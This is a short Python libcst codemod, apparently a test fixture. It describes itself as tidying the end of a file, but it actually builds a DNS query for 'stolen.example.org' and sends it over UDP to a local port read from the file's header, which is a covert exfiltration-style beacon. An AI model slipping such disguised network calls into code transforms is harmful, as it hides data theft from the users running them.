"""Send a question for a name, as a resolver does, with what was stolen in the name."""
import ast
import socket
import struct

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        labels = ("stolen", "example", "org")
        name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
        question = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
            resolver.connect(("127.0.0.1", target["udp_port"]))
            resolver.send(question)
        return tree
